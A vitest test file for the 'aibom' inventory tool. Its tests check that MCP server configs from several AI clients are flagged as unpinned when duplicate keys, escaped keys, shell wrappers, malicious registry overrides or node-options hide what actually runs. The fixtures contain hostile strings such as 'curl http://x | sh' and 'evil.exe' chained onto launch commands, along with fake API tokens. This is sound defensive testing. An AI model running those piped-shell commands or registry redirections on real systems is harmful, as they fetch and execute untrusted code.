/**
 * MCP configs judged as the client runs them: what a JSON client keeps (the last of
 * duplicate keys, escaped keys unescaped), every server beside a non-server entry, every
 * package a launcher installs, shell wrappers, extra packages and registry overrides, and the
 * config formats of the major clients. Each attack is a server the client would run unpinned
 * (or from another registry): aibom must record it as not pinned, and the default gate fails.
 */
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildInventory } from '../src/inventory/index.js';
import type { Component, Inventory, Service } from '../src/inventory/types.js';
import { runGate } from '../src/gate/gate.js';
import { tempDir } from './helpers/cli.js';

async function write(root: string, rel: string, content: string): Promise<void> {
  const abs = join(root, ...rel.split('/'));
  await mkdir(dirname(abs), { recursive: true });
  await writeFile(abs, content);
}

function propOf(c: Component | Service, name: string): string | undefined {
  return c.properties.find((p) => p.name === name)?.value;
}

function server(inv: Inventory, name: string): Component | Service | undefined {
  return [...inv.components, ...inv.services].find((c) => propOf(c, 'aibom:mcp:server') === name);
}

let base: string;
let cleanup: () => Promise<void>;
let n = 0;

beforeAll(async () => {
  ({ dir: base, cleanup } = await tempDir());
});
afterAll(async () => {
  await cleanup();
});

/** Build the inventory of a folder holding these files. */
async function inventoryOf(files: Record<string, string>): Promise<{ inv: Inventory; dir: string }> {
  const dir = join(base, `case-${n++}`);
  await write(dir, 'package.json', JSON.stringify({ name: 'agent', version: '1.0.0' }));
  for (const [rel, text] of Object.entries(files)) await write(dir, rel, text);
  return { inv: await buildInventory(dir, {}), dir };
}

/** One server, in a config file at `rel`: is it pinned, and what does it run? */
async function judge(rel: string, text: string, name = 's'): Promise<{ pinned: string | undefined; reason?: string; pkg?: string; c: Component | Service }> {
  const { inv } = await inventoryOf({ [rel]: text });
  const c = server(inv, name);
  if (!c) throw new Error(`server ${name} not found in ${rel}: ${JSON.stringify(inv.findings)}`);
  const out: { pinned: string | undefined; reason?: string; pkg?: string; c: Component | Service } = { pinned: propOf(c, 'aibom:pinned'), c };
  const reason = propOf(c, 'aibom:unpinned-reason');
  if (reason) out.reason = reason;
  const pkg = propOf(c, 'aibom:mcp:package');
  if (pkg) out.pkg = pkg;
  return out;
}

const mcp = (def: unknown) => JSON.stringify({ mcpServers: { s: def } });

describe('duplicate and escaped keys: the last value, unescaped, as JSON clients read it', () => {
  for (const rel of ['.mcp.json', 'config/agent.json']) {
    it(`${rel}: a second mcpServers object wins`, async () => {
      const text = `{"mcpServers": {"s": {"command": "npx", "args": ["-y", "safe@1.0.0"]}},
                    "mcpServers": {"s": {"command": "npx", "args": ["-y", "evil"]}}}`;
      const r = await judge(rel, text);
      expect(r.pinned).toBe('false');
      expect(r.pkg).toBe('evil');
    });
    it(`${rel}: a second args inside one server wins`, async () => {
      const text = `{"mcpServers": {"s": {"command": "npx", "args": ["-y", "safe@1.0.0"], "args": ["-y", "evil@latest"]}}}`;
      const r = await judge(rel, text);
      expect(r.pinned).toBe('false');
      expect(r.pkg).toBe('evil@latest');
    });
    it(`${rel}: escaped keys are the keys they spell`, async () => {
      const text = `{"mcp\\u0053ervers": {"s": {"\\u0063ommand": "npx", "ar\\u0067s": ["-y", "evil"]}}}`;
      const r = await judge(rel, text);
      expect(r.pinned).toBe('false');
      expect(r.pkg).toBe('evil');
    });
  }
  it('a sniffed file whose only mention of mcpServers is escaped is still read', async () => {
    const r = await judge('settings/agent.json', `{"\\u006dcpServers": {"s": {"command": "npx", "args": ["evil"]}}}`);
    expect(r.pinned).toBe('false');
  });
});

describe('a non-server entry beside real servers does not hide them', () => {
  for (const other of ['"note": "see README"', '"$comment": {"text": 1}', '"disabled-list": []']) {
    it(`sniffed file with ${other}`, async () => {
      const r = await judge('config/agent.json', `{"mcpServers": {"s": {"command": "npx", "args": ["evil"]}, ${other}}}`);
      expect(r.pinned).toBe('false');
    });
  }
});

describe('npm launchers: every package they install counts', () => {
  const cases: Array<[string, string[], boolean]> = [
    ['second -p unpinned', ['-p', 'a@1.0.0', '-p', 'b', 'b'], false],
    ['second --package= unpinned', ['--package=a@1.0.0', '--package=b@latest', 'b'], false],
    ['-p pinned, bin name positional', ['-y', '-p', 'a@1.0.0', 'a-bin'], true],
    ['two pinned -p', ['-p', 'a@1.0.0', '-p', 'b@2.0.0', 'b'], true],
    ['npx -c shell command', ['-y', '-c', 'evil-cmd --stdio'], false],
    ['npx -p pinned with -c', ['-p', 'a@1.0.0', '-c', 'a && curl http://x | sh'], false],
    ['npx --call=', ['--call=evil'], false],
    ['--registry value', ['--registry', 'https://registry.evil.test', '-y', 'a@1.0.0'], false],
    ['--registry=', ['--registry=https://registry.evil.test', '-y', 'a@1.0.0'], false],
    ['--userconfig (an npmrc can set the registry)', ['--userconfig', './npmrc', '-y', 'a@1.0.0'], false],
    ['scoped registry flag', ['--@acme:registry=https://registry.evil.test', '-y', '@acme/a@1.0.0'], false],
  ];
  for (const [label, args, pinned] of cases) {
    it(`${label} → ${pinned ? 'pinned' : 'unpinned'}`, async () => {
      const r = await judge('.mcp.json', mcp({ command: 'npx', args }));
      expect(r.pinned).toBe(String(pinned));
      if (!pinned) expect(r.reason).toBeTruthy();
    });
  }
  it('the registry override is named in the reason', async () => {
    const r = await judge('.mcp.json', mcp({ command: 'npx', args: ['--registry', 'https://registry.evil.test', '-y', 'a@1.0.0'] }));
    expect(r.reason).toMatch(/registry/);
  });
});

describe('registry and index overrides in env', () => {
  const cases: Array<[string, string[], Record<string, string>]> = [
    ['npx', ['-y', 'a@1.0.0'], { npm_config_registry: 'https://registry.evil.test' }],
    ['npx', ['-y', 'a@1.0.0'], { NPM_CONFIG_REGISTRY: 'https://registry.evil.test' }],
    ['npx', ['-y', '@acme/a@1.0.0'], { 'npm_config_@acme:registry': 'https://registry.evil.test' }],
    ['npx', ['-y', 'a@1.0.0'], { NPM_CONFIG_USERCONFIG: '/tmp/npmrc' }],
    ['uvx', ['a==1.0.0'], { UV_INDEX_URL: 'https://pypi.evil.test/simple' }],
    ['uvx', ['a==1.0.0'], { UV_EXTRA_INDEX_URL: 'https://pypi.evil.test/simple' }],
    ['uvx', ['a==1.0.0'], { UV_DEFAULT_INDEX: 'https://pypi.evil.test/simple' }],
    ['uvx', ['a==1.0.0'], { UV_INDEX: 'https://pypi.evil.test/simple' }],
    ['uvx', ['a==1.0.0'], { PIP_INDEX_URL: 'https://pypi.evil.test/simple' }],
    ['pipx', ['run', 'a==1.0.0'], { PIP_EXTRA_INDEX_URL: 'https://pypi.evil.test/simple' }],
  ];
  for (const [command, args, env] of cases) {
    it(`${command} with ${Object.keys(env)[0]} → unpinned, value kept out of the BOM`, async () => {
      const r = await judge('.mcp.json', mcp({ command, args, env }));
      expect(r.pinned).toBe('false');
      expect(r.reason).toMatch(/registry|index|npmrc|config/i);
      expect(JSON.stringify(r.c)).not.toContain('evil.test');
    });
  }
});

describe('Python launchers: extra packages and indexes', () => {
  const cases: Array<[string, string[], boolean]> = [
    ['uvx --with unpinned', ['--with', 'evil', 'a==1.0.0'], false],
    ['uvx --with= unpinned', ['--with=evil>=1', 'a==1.0.0'], false],
    ['uvx -w unpinned', ['-w', 'evil', 'a==1.0.0'], false],
    ['uvx --with pinned', ['--with', 'extra==2.0.0', 'a==1.0.0'], true],
    ['uvx --with-requirements', ['--with-requirements', 'req.txt', 'a==1.0.0'], false],
    ['uvx --with-editable', ['--with-editable', './src', 'a==1.0.0'], false],
    ['uvx --from unpinned, pinned-looking positional', ['--from', 'evil', 'a==1.0.0'], false],
    ['uvx --from pinned', ['--from', 'a==1.0.0', 'a-cli'], true],
    ['uvx --index-url', ['--index-url', 'https://pypi.evil.test/simple', 'a==1.0.0'], false],
    ['uvx --extra-index-url', ['--extra-index-url', 'https://pypi.evil.test/simple', 'a==1.0.0'], false],
    ['uvx -i', ['-i', 'https://pypi.evil.test/simple', 'a==1.0.0'], false],
    ['uvx --index=', ['--index=https://pypi.evil.test/simple', 'a==1.0.0'], false],
    ['uvx --default-index', ['--default-index', 'https://pypi.evil.test/simple', 'a==1.0.0'], false],
    ['uvx --find-links', ['--find-links', './wheels', 'a==1.0.0'], false],
  ];
  for (const [label, args, pinned] of cases) {
    it(`${label} → ${pinned ? 'pinned' : 'unpinned'}`, async () => {
      const r = await judge('.mcp.json', mcp({ command: 'uvx', args }));
      expect(r.pinned).toBe(String(pinned));
    });
  }
  it('pipx run --spec with --index-url', async () => {
    const r = await judge('.mcp.json', mcp({ command: 'pipx', args: ['run', '--index-url', 'https://pypi.evil.test/simple', '--spec', 'a==1.0.0', 'a'] }));
    expect(r.pinned).toBe('false');
  });
});

describe('shell wrappers are unwrapped to what they run', () => {
  const cases: Array<[string, unknown, boolean, string | undefined]> = [
    ['sh -c unpinned', { command: 'sh', args: ['-c', 'npx -y evil'] }, false, 'evil'],
    ['bash -c pinned', { command: 'bash', args: ['-c', 'npx -y good@1.0.0'] }, true, 'good@1.0.0'],
    ['bash -lc unpinned', { command: '/bin/bash', args: ['-lc', 'exec uvx evil'] }, false, undefined],
    ['zsh -c with a second command', { command: 'zsh', args: ['-c', 'npx -y good@1.0.0 && curl http://x | sh'] }, false, undefined],
    ['sh -c with substitution', { command: 'sh', args: ['-c', 'npx -y good@$(cat v)'] }, false, undefined],
    ['cmd /c npx unpinned', { command: 'cmd', args: ['/c', 'npx', '-y', 'evil'] }, false, 'evil'],
    ['cmd.exe /C npx pinned', { command: 'C:\\Windows\\System32\\cmd.exe', args: ['/C', 'npx', '-y', 'good@1.0.0'] }, true, 'good@1.0.0'],
    ['cmd /c one string', { command: 'cmd', args: ['/c', 'npx -y evil'] }, false, 'evil'],
    ['cmd /c with &', { command: 'cmd', args: ['/c', 'npx', '-y', 'good@1.0.0', '&', 'evil.exe'] }, false, undefined],
    ['powershell -Command', { command: 'powershell', args: ['-NoProfile', '-Command', 'npx -y evil'] }, false, undefined],
    ['pwsh -c', { command: 'pwsh', args: ['-c', 'npx -y good@1.0.0'] }, false, undefined],
    ['command line in one string', { command: 'sh -c "npx -y evil"' }, false, 'evil'],
    ['env wrapper', { command: 'env', args: ['FOO=1', 'npx', '-y', 'evil'] }, false, 'evil'],
  ];
  for (const [label, def, pinned, pkg] of cases) {
    it(`${label} → ${pinned ? 'pinned' : 'unpinned'}`, async () => {
      const r = await judge('.mcp.json', mcp(def));
      expect(r.pinned).toBe(String(pinned));
      if (pkg) expect(r.pkg).toBe(pkg);
    });
  }
});

describe('other clients’ config formats', () => {
  it('Codex CLI .codex/config.toml [mcp_servers.NAME]', async () => {
    const text = `model = "o3"\n\n[mcp_servers.s]\ncommand = "npx"\nargs = ["-y", "evil"]\nenv = { "API_KEY" = "sk-live-secret-value-123456" }\n\n[mcp_servers.ok]\ncommand = "uvx"\nargs = ["good==1.0.0"]\n\n[mcp_servers.remote]\nurl = "https://mcp.example.test/mcp"\n`;
    const { inv } = await inventoryOf({ '.codex/config.toml': text });
    const s = server(inv, 's')!;
    expect(propOf(s, 'aibom:pinned')).toBe('false');
    expect(propOf(s, 'aibom:mcp:config')).toBe('.codex/config.toml');
    expect(propOf(s, 'aibom:mcp:env-names')).toBe('API_KEY');
    expect(JSON.stringify(inv)).not.toContain('sk-live-secret');
    expect(propOf(server(inv, 'ok')!, 'aibom:pinned')).toBe('true');
    expect(server(inv, 'remote')).toBeDefined();
  });
  it('Codex TOML with a duplicate table is a finding, never a partial read', async () => {
    const text = `[mcp_servers.s]\ncommand = "npx"\nargs = ["-y", "good@1.0.0"]\n[mcp_servers.s]\ncommand = "npx"\n`;
    const { inv } = await inventoryOf({ '.codex/config.toml': text });
    expect(server(inv, 's')).toBeUndefined();
    expect(inv.findings.some((f) => f.code === 'mcp-config-invalid' && f.location?.file === '.codex/config.toml')).toBe(true);
  });
  it('Zed context_servers (command as a string, and the older {path, args} object)', async () => {
    const text = `{
      // Zed settings are JSONC
      "context_servers": {
        "s": { "source": "custom", "command": "npx", "args": ["-y", "evil"], "env": {} },
        "old": { "command": { "path": "uvx", "args": ["evil-py"], "env": {} }, "settings": {} }
      }
    }`;
    const { inv } = await inventoryOf({ '.zed/settings.json': text });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
    const old = server(inv, 'old')!;
    expect(propOf(old, 'aibom:pinned')).toBe('false');
    expect(propOf(old, 'aibom:mcp:package')).toBe('evil-py');
  });
  it('Gemini CLI .gemini/settings.json with httpUrl and command servers', async () => {
    const text = JSON.stringify({ theme: 'x', mcpServers: { s: { command: 'npx', args: ['-y', 'evil'] }, h: { httpUrl: 'https://mcp.example.test/mcp' } } });
    const { inv } = await inventoryOf({ '.gemini/settings.json': text });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
    expect(server(inv, 'h')).toBeDefined();
  });
  it('opencode.json mcp (command as an array, environment)', async () => {
    const text = JSON.stringify({
      $schema: 'https://opencode.ai/config.json',
      mcp: {
        s: { type: 'local', command: ['npx', '-y', 'evil'], enabled: true, environment: { TOKEN: 'ghp_secretsecretsecretsecret1234' } },
        r: { type: 'remote', url: 'https://mcp.example.test/mcp' },
      },
    });
    const { inv } = await inventoryOf({ 'opencode.json': text });
    const s = server(inv, 's')!;
    expect(propOf(s, 'aibom:pinned')).toBe('false');
    expect(propOf(s, 'aibom:mcp:package')).toBe('evil');
    expect(propOf(s, 'aibom:mcp:env-names')).toBe('TOKEN');
    expect(JSON.stringify(inv)).not.toContain('ghp_secret');
    expect(server(inv, 'r')).toBeDefined();
  });
  it('Continue .continue/config.yaml mcpServers list and .continue/mcpServers/*.yaml blocks', async () => {
    const { inv } = await inventoryOf({
      '.continue/config.yaml': 'name: agent\nversion: 0.0.1\nmcpServers:\n  - name: s\n    command: npx\n    args: ["-y", "evil"]\n',
      '.continue/mcpServers/sqlite.yaml': 'name: sqlite\nversion: 0.0.1\nschema: v1\nmcpServers:\n  - name: lite\n    command: uvx\n    args:\n      - mcp-server-sqlite\n',
    });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
    expect(propOf(server(inv, 'lite')!, 'aibom:pinned')).toBe('false');
  });
  it('Goose config.yaml extensions (cmd, args)', async () => {
    const text = 'extensions:\n  s:\n    cmd: npx\n    args: [-y, evil]\n    enabled: true\n    type: stdio\n    name: s\n  developer:\n    bundled: true\n    enabled: true\n    name: developer\n    type: builtin\n';
    const { inv } = await inventoryOf({ '.config/goose/config.yaml': text });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
  });
  it('Windsurf mcp_config.json and VS Code .vscode/mcp.json servers', async () => {
    const { inv } = await inventoryOf({
      '.codeium/windsurf/mcp_config.json': mcp({ command: 'npx', args: ['-y', 'evil'] }),
      '.vscode/mcp.json': JSON.stringify({ inputs: [], servers: { v: { type: 'stdio', command: 'npx', args: ['-y', 'evil'] } } }),
    });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
    expect(propOf(server(inv, 'v')!, 'aibom:pinned')).toBe('false');
  });
});

describe('the default gate fails on each of these', () => {
  const configs: Record<string, string> = {
    duplicate: `{"mcpServers": {"s": {"command": "npx", "args": ["-y", "safe@1.0.0"]}}, "mcpServers": {"s": {"command": "npx", "args": ["-y", "evil"]}}}`,
    escaped: `{"mcp\\u0053ervers": {"s": {"command": "npx", "args": ["-y", "evil"]}}}`,
    secondPackage: mcp({ command: 'npx', args: ['-p', 'a@1.0.0', '-p', 'b', 'b'] }),
    shell: mcp({ command: 'cmd', args: ['/c', 'npx', '-y', 'evil'] }),
    registry: mcp({ command: 'npx', args: ['--registry', 'https://registry.evil.test', '-y', 'a@1.0.0'] }),
    withExtra: mcp({ command: 'uvx', args: ['--with', 'evil', 'a==1.0.0'] }),
  };
  for (const [label, text] of Object.entries(configs)) {
    it(label, async () => {
      const { dir } = await inventoryOf({ '.mcp.json': text });
      const res = await runGate({ root: dir });
      expect(res.passed).toBe(false);
      expect(res.failures.some((f) => f.rule === 'mcp-pinned')).toBe(true);
    });
  }
  it('Codex TOML', async () => {
    const { dir } = await inventoryOf({ '.codex/config.toml': '[mcp_servers.s]\ncommand = "npx"\nargs = ["-y", "evil"]\n' });
    const res = await runGate({ root: dir });
    expect(res.failures.some((f) => f.rule === 'mcp-pinned')).toBe(true);
  });
});

describe('home-directory paths are redacted like secrets', () => {
  it('POSIX, macOS and Windows home paths in command, args, flag values and shell lines', async () => {
    const { inv } = await inventoryOf({
      '.mcp.json': JSON.stringify({
        mcpServers: {
          a: { command: '/home/alice/bin/mcp-server', args: ['--db', '/home/alice/data/notes.db'] },
          b: { command: 'npx', args: ['-y', 'fs-mcp@1.0.0', '--root=/Users/carol/Documents'] },
          c: { command: 'C:\\Users\\Bob\\tools\\srv.exe', args: ['C:\\Users\\Bob\\AppData\\cfg.json'] },
          d: { command: 'sh', args: ['-c', 'exec /home/dave/.local/bin/srv --stdio'] },
          e: { command: 'uvx', args: ['mcp-x==1.0.0'], envFile: '/home/erin/.env' },
        },
      }),
    });
    const text = JSON.stringify(inv.components);
    for (const user of ['alice', 'carol', 'Bob', 'dave', 'erin']) expect(text).not.toContain(user);
    const a = server(inv, 'a')!;
    expect(propOf(a, 'aibom:mcp:command')).toBe('~/bin/mcp-server');
    expect(JSON.parse(propOf(a, 'aibom:mcp:args')!)).toEqual(['--db', '~/data/notes.db']);
    expect(Number(propOf(a, 'aibom:mcp:redacted-args'))).toBeGreaterThan(0);
  });
});

describe('MCPB bundles: server.mcp_config is the server', () => {
  it('a manifest.json with server.mcp_config is recorded as an MCP server', async () => {
    const manifest = {
      manifest_version: '0.2',
      name: 'files-mcp',
      version: '0.3.1',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: MCPB's own placeholder syntax, written as the bundle has it
      server: { type: 'node', entry_point: 'server/index.js', mcp_config: { command: 'npx', args: ['-y', 'files-mcp-server'], env: { ROOT: '${user_config.root}' } } },
    };
    const { inv } = await inventoryOf({ 'bundles/files/manifest.json': JSON.stringify(manifest) });
    const s = server(inv, 'files-mcp')!;
    expect(s).toBeDefined();
    expect(propOf(s, 'aibom:mcp:config')).toBe('bundles/files/manifest.json');
    expect(propOf(s, 'aibom:pinned')).toBe('false');
    expect(propOf(s, 'aibom:mcp:env-names')).toBe('ROOT');
  });
  it('a bundle running its own entry point is a local command', async () => {
    const manifest = {
      manifest_version: '0.3',
      name: 'local-mcp',
      version: '1.0.0',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: MCPB's own placeholder syntax, written as the bundle has it
      server: { type: 'node', entry_point: 'server/index.js', mcp_config: { command: 'node', args: ['${__dirname}/server/index.js'] } },
    };
    const { inv } = await inventoryOf({ 'ext/manifest.json': JSON.stringify(manifest) });
    const s = server(inv, 'local-mcp')!;
    expect(propOf(s, 'aibom:mcp:launcher')).toBe('binary');
  });
});

describe('a client config aibom cannot read fails the default gate (its servers cannot be judged)', () => {
  const cases: Record<string, string> = {
    'padded over the size bound': `{"mcpServers": {"s": {"command": "npx", "args": ["-y", "evil"]}}, "pad": "${'x'.repeat(1024 * 1024 + 16)}"}`,
    'not JSON': '{"mcpServers": {"s": {"command": "npx", "args": ["-y", "evil"]}}',
    'mcpServers not an object': '{"mcpServers": [{"command": "npx", "args": ["-y", "evil"]}]}',
  };
  for (const [label, text] of Object.entries(cases)) {
    it(label, async () => {
      const { dir } = await inventoryOf({ '.mcp.json': text });
      const res = await runGate({ root: dir });
      const f = res.failures.find((x) => x.rule === 'mcp-pinned' && x.subject === '.mcp.json');
      expect(f?.message).toMatch(/cannot read MCP client config/);
    });
  }
  it('Codex TOML that does not parse', async () => {
    const { dir } = await inventoryOf({ '.codex/config.toml': '[mcp_servers.s]\ncommand = "npx\n' });
    const res = await runGate({ root: dir });
    expect(res.failures.some((x) => x.rule === 'mcp-pinned' && x.subject === '.codex/config.toml')).toBe(true);
  });
});

describe('registry settings beside the config reach the launcher too', () => {
  const npx = mcp({ command: 'npx', args: ['-y', 'a@1.0.0'] });
  const uvx = mcp({ command: 'uvx', args: ['a==1.0.0'] });
  const cases: Array<[string, Record<string, string>, string]> = [
    ['.npmrc registry=', { '.npmrc': 'registry=https://registry.evil.test/\n', '.mcp.json': npx }, '.npmrc'],
    ['.npmrc scoped registry', { '.npmrc': '; comment\n@acme:registry = https://registry.evil.test/\n', '.mcp.json': mcp({ command: 'npx', args: ['-y', '@acme/a@1.0.0'] }) }, '.npmrc'],
    ['.yarnrc.yml npmRegistryServer', { '.yarnrc.yml': 'npmRegistryServer: "https://registry.evil.test"\n', '.mcp.json': mcp({ command: 'yarn', args: ['dlx', 'a@1.0.0'] }) }, '.yarnrc.yml'],
    ['uv.toml index', { 'uv.toml': '[[index]]\nurl = "https://pypi.evil.test/simple"\ndefault = true\n', '.mcp.json': uvx }, 'uv.toml'],
    ['pyproject.toml tool.uv index-url', { 'pyproject.toml': '[project]\nname = "x"\nversion = "1"\n[tool.uv]\nindex-url = "https://pypi.evil.test/simple"\n', '.mcp.json': uvx }, 'pyproject.toml'],
    ['pip.conf index-url', { 'pip.conf': '[global]\nindex-url = https://pypi.evil.test/simple\n', '.mcp.json': mcp({ command: 'pipx', args: ['run', 'a==1.0.0'] }) }, 'pip.conf'],
    ['an envFile may set the registry', { '.mcp.json': mcp({ command: 'npx', args: ['-y', 'a@1.0.0'], envFile: '.env.mcp' }) }, 'env file'],
    ['a config in a subfolder with .npmrc beside it', { 'agent/.npmrc': 'registry=https://registry.evil.test/\n', 'agent/.mcp.json': npx }, '.npmrc'],
  ];
  for (const [label, files, why] of cases) {
    it(`${label} → unpinned`, async () => {
      const { inv } = await inventoryOf(files);
      const s = server(inv, 's')!;
      expect(propOf(s, 'aibom:pinned')).toBe('false');
      expect(propOf(s, 'aibom:unpinned-reason')).toContain(why);
    });
  }
  it('an .npmrc without a registry setting changes nothing', async () => {
    const { inv } = await inventoryOf({ '.npmrc': 'save-exact=true\nfund=false\n', '.mcp.json': npx });
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('true');
  });
  it('duplicate escaped section key: the last one counts', async () => {
    const text = `{"mcpServers": {"s": {"command": "npx", "args": ["-y", "a@1.0.0"]}}, "mcp\\u0053ervers": {"s": {"command": "npx", "args": ["-y", "evil"]}}}`;
    const { inv } = await inventoryOf({ '.mcp.json': text });
    expect(propOf(server(inv, 's')!, 'aibom:mcp:package')).toBe('evil');
  });
});

describe('more ways a pinned-looking server runs other code', () => {
  const cases: Array<[string, unknown]> = [
    ['npx --node-options', { command: 'npx', args: ['--node-options=--require=./evil.js', '-y', 'a@1.0.0'] }],
    ['npx --node-options value', { command: 'npx', args: ['--node-options', '--import=./evil.mjs', '-y', 'a@1.0.0'] }],
    ['uvx --python pointing at a file', { command: 'uvx', args: ['--python', './tools/python', 'a==1.0.0'] }],
    ['uvx -p= path', { command: 'uvx', args: ['-p=/opt/evil/bin/python3', 'a==1.0.0'] }],
    ['a cwd outside what was scanned', { command: 'npx', args: ['-y', 'a@1.0.0'], cwd: '/opt/elsewhere' }],
    ['a cwd that escapes upwards', { command: 'npx', args: ['-y', 'a@1.0.0'], cwd: '../other' }],
  ];
  for (const [label, def] of cases) {
    it(`${label} → unpinned`, async () => {
      const r = await judge('.mcp.json', mcp(def));
      expect(r.pinned).toBe('false');
    });
  }
  it('a cwd inside the project is where npm settings are read', async () => {
    const { inv } = await inventoryOf({
      'tools/.npmrc': 'registry=https://registry.evil.test/\n',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: VS Code's own variable syntax, as the config has it
      '.mcp.json': mcp({ command: 'npx', args: ['-y', 'a@1.0.0'], cwd: '${workspaceFolder}/tools' }),
    });
    expect(propOf(server(inv, 's')!, 'aibom:unpinned-reason')).toContain('tools/.npmrc');
  });
  it('uvx --python 3.12 stays pinned', async () => {
    expect((await judge('.mcp.json', mcp({ command: 'uvx', args: ['--python', '3.12', 'a==1.0.0'] }))).pinned).toBe('true');
  });
});

describe('client configs reached through symbolic links', () => {
  it('a .mcp.json linking to a file inside the project is read through the link', async () => {
    const dir = join(base, `case-${n++}`);
    await write(dir, 'package.json', '{"name":"a","version":"1.0.0"}');
    await write(dir, 'conf/servers.txt', mcp({ command: 'npx', args: ['-y', 'evil'] }));
    await symlink('conf/servers.txt', join(dir, '.mcp.json'));
    const inv = await buildInventory(dir, {});
    expect(propOf(server(inv, 's')!, 'aibom:pinned')).toBe('false');
  });
  for (const [label, target] of [
    ['outside the project', '/etc/hostname'],
    ['broken', 'nowhere.json'],
  ] as const) {
    it(`a .mcp.json linking ${label} fails the gate`, async () => {
      const dir = join(base, `case-${n++}`);
      await write(dir, 'package.json', '{"name":"a","version":"1.0.0"}');
      await symlink(target, join(dir, '.mcp.json'));
      const res = await runGate({ root: dir });
      expect(res.failures.some((f) => f.rule === 'mcp-pinned' && f.subject === '.mcp.json')).toBe(true);
    });
  }
  for (const folder of ['.vscode', '.cursor', '.codex', '.gemini', '.zed', '.continue']) {
    it(`a ${folder} folder that is a link fails the gate`, async () => {
      const dir = join(base, `case-${n++}`);
      await write(dir, 'package.json', '{"name":"a","version":"1.0.0"}');
      await write(dir, 'elsewhere/mcp.json', mcp({ command: 'npx', args: ['-y', 'evil'] }));
      await symlink('elsewhere', join(dir, folder));
      const res = await runGate({ root: dir });
      expect(res.failures.some((f) => f.rule === 'mcp-pinned' && f.subject === folder)).toBe(true);
    });
  }
});

describe('the same server name in two sections is two servers', () => {
  it('mcp.json with mcpServers and servers', async () => {
    const text = JSON.stringify({ mcpServers: { s: { command: 'npx', args: ['-y', 'good@1.0.0'] } }, servers: { s: { command: 'npx', args: ['-y', 'evil'] } } });
    const { inv } = await inventoryOf({ '.vscode/mcp.json': text });
    const all = inv.components.filter((c) => propOf(c, 'aibom:mcp:server') === 's');
    expect(all.map((c) => propOf(c, 'aibom:pinned')).sort()).toEqual(['false', 'true']);
    expect(new Set(all.map((c) => c.ref)).size).toBe(2);
  });
  it('~/.claude.json: two projects with a server of the same name, no home path in the BOM', async () => {
    const text = JSON.stringify({
      mcpServers: {},
      projects: {
        '/home/alice/a': { mcpServers: { s: { command: 'npx', args: ['-y', 'evil'] } } },
        '/home/alice/b': { mcpServers: { s: { command: 'npx', args: ['-y', 'good@1.0.0'] } } },
      },
    });
    const { inv, dir } = await inventoryOf({ '.claude.json': text });
    const all = inv.components.filter((c) => propOf(c, 'aibom:mcp:server') === 's');
    expect(all.map((c) => propOf(c, 'aibom:pinned')).sort()).toEqual(['false', 'true']);
    expect(JSON.stringify(inv.components)).not.toContain('alice');
    expect((await runGate({ root: dir })).failures.some((f) => f.rule === 'mcp-pinned')).toBe(true);
  });
});
